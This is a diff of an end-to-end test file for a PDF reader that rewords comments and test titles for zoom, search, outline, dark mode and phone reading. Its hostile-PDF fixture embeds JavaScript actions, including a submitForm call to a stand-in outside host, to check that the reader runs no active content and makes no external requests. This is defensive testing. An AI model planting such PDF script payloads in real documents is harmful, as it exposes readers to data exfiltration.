@@ -1,4 +1,4 @@
-// PDFs in a real browser: text that can be selected and found, contents, links, zoom; and nothing in them that runs.
+// The PDF reader: selectable and searchable text, outline, links, zoom; and no active content is executed.
 import { existsSync, readFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { fileURLToPath } from 'node:url';
@@ -16,7 +16,7 @@ const corpus =
   process.env.LECTERN_CORPUS ?? fileURLToPath(new URL('../../../../shared/corpus', import.meta.url));
 const real = join(corpus, 'Documents/Debian/Debian FAQ.pdf');
 
-/** What runs in other readers: on opening, on a page, by a click, in a form. */
+/** Active content that other readers execute: on opening, on a page, by a click, in a form. */
 const makeHostile = () => {
   const script = (text: string) => `/S/JavaScript/JS(${text})`;
   const call = "app.alert\\('run'\\); this.submitForm\\('http://elsewhere.example/take'\\);";
@@ -126,7 +126,7 @@ describe('the PDF reader', () => {
     await page.getByRole('searchbox').waitFor({ state: 'detached' });
   });
 
-  test('shows whole pages at first, and has buttons for their size, also on a phone', async () => {
+  test('shows whole pages by default, and has zoom buttons, also on a phone', async () => {
     for (const viewport of [desk, phone]) {
       const page = await read('Size 1.pdf', { viewport });
       const size = async () => {
@@ -149,16 +149,16 @@ describe('the PDF reader', () => {
       await button('Fit width').click();
       await expect.poll(async () => (await size()).width).toBeGreaterThan(viewport.width - 40);
       await button('Fit page').click();
-      // pdf.js rounds each size anew.
+      // pdf.js rounds each size separately.
       await expect.poll(async () => Math.abs((await size()).width - whole.width)).toBeLessThan(3);
-      // It is remembered on this device.
+      // Remembered on this device.
       await button('Fit width').click();
       await page.reload();
       await expect.poll(async () => (await size()).width).toBeGreaterThan(viewport.width - 40);
     }
   });
 
-  test('keeps the position while one looks at what was found, and leads back to it', async () => {
+  test('keeps the position while the user looks at search results, and leads back to it', async () => {
     const book = await findBook('Looked 1.pdf');
     const page = await read('Looked 1.pdf');
     await isAt(page, '1 / 12');
@@ -194,7 +194,7 @@ describe('the PDF reader', () => {
     await expect.poll(() => readPlace(web, book)).toBe(7);
   });
 
-  test('shows two pages side by side, the cover alone, and turns both', async () => {
+  test('shows two pages side by side with the cover alone, and turns both', async () => {
     const page = await openBook(web, await findBook('Spread 1.pdf'), { search: '?page=1' });
     await text(page, 1).getByText('This is page 1').waitFor();
     await page.getByRole('button', { name: 'Appearance' }).click();
@@ -228,7 +228,7 @@ describe('the PDF reader', () => {
     await expect.poll(seen).toEqual([2, 3]);
   });
 
-  test('shows white paper dark, with less light, and remembers it', async () => {
+  test('shows white paper in dark mode, dimmed, and remembers it', async () => {
     const page = await openBook(web, await findBook('Dark 1.pdf'), { search: '?page=1' });
     await text(page, 1).getByText('This is page 1').waitFor();
     await page.getByRole('button', { name: 'Appearance' }).click();
@@ -252,7 +252,7 @@ describe('the PDF reader', () => {
     expect(await filters()).toEqual(['invert(0.9) hue-rotate(180deg)', 'none']);
   });
 
-  test('leads to chapters and along links inside, and asks before those that lead outside', async () => {
+  test('follows outline entries and internal links, and asks before external ones', async () => {
     const { id } = await findBook('Guide 1.pdf');
     const page = await read('Guide 1.pdf');
     await page.getByRole('button', { name: 'Contents' }).click();
@@ -278,7 +278,7 @@ describe('the PDF reader', () => {
     expect(requests.filter((url) => !url.startsWith(web.base) && !/^(blob|data):/.test(url))).toEqual([]);
   });
 
-  test('is read on a phone: one page at a time or below one another, closer by two fingers', async () => {
+  test('is read on a phone: single pages or continuous scroll, with pinch zoom', async () => {
     const page = await read('Phone 1.pdf', { viewport: phone });
     await text(page, 1).getByText('This is page 1').waitFor();
     const width = async () =>
@@ -301,7 +301,7 @@ describe('the PDF reader', () => {
     await text(page, 2).getByText('This is page 2').waitFor();
   });
 
-  test('runs nothing that a document brings along, and asks nobody else for anything', async () => {
+  test('executes no active content and sends no external request', async () => {
     const { id } = await findBook('Hostile 1.pdf');
     const page = await web.open();
     const requests: string[] = [];
@@ -325,7 +325,7 @@ describe('the PDF reader', () => {
     expect(requests.filter((url) => /sandbox|quickjs|[.]wasm/.test(url))).toEqual([]);
   });
 
-  test('fetches the ranges that are shown, not the whole file', async ({ skip }) => {
+  test('loads only the visible ranges, not the whole file', async ({ skip }) => {
     if (!existsSync(real)) skip();
     const book = await findBook('Debian FAQ.pdf');
     const page = await web.open();
@@ -340,7 +340,7 @@ describe('the PDF reader', () => {
     await show(page, 'pdf real');
   });
 
-  test('shows comics as pictures that the server makes, unless somebody wants it otherwise', async () => {
+  test('shows comics as images drawn by the server unless the user chooses otherwise', async () => {
     const page = await read('Comic 1.pdf');
     await page.locator('[dir]:not([data-ahead]) [data-state=there]').waitFor();
     await page.keyboard.press('ArrowRight');
@@ -354,7 +354,7 @@ describe('the PDF reader', () => {
     await page.locator('[dir]:not([data-ahead]) [data-page="2"]').waitFor();
   });
 
-  test('falls back to pictures where the file cannot be had', async () => {
+  test('falls back to images if the file cannot be loaded', async () => {
     const { id } = await findBook('Broken 1.pdf');
     const page = await web.open({ allow: /Failed to load resource/ });
     await page.route('**/file', (route) =>
@@ -366,7 +366,7 @@ describe('the PDF reader', () => {
     await page.locator('[dir]:not([data-ahead]) [data-state=there]').waitFor();
   });
 
-  test.each(['light', 'dark'] as const)('is accessible on a phone and at a desk, %s', async (colorScheme) => {
+  test.each(['light', 'dark'] as const)('is accessible on phone and desktop, %s', async (colorScheme) => {
     for (const viewport of [desk, phone]) {
       const page = await read('Guide 1.pdf', { viewport, context: { colorScheme } });
       await page.locator('.textLayer').first().waitFor();
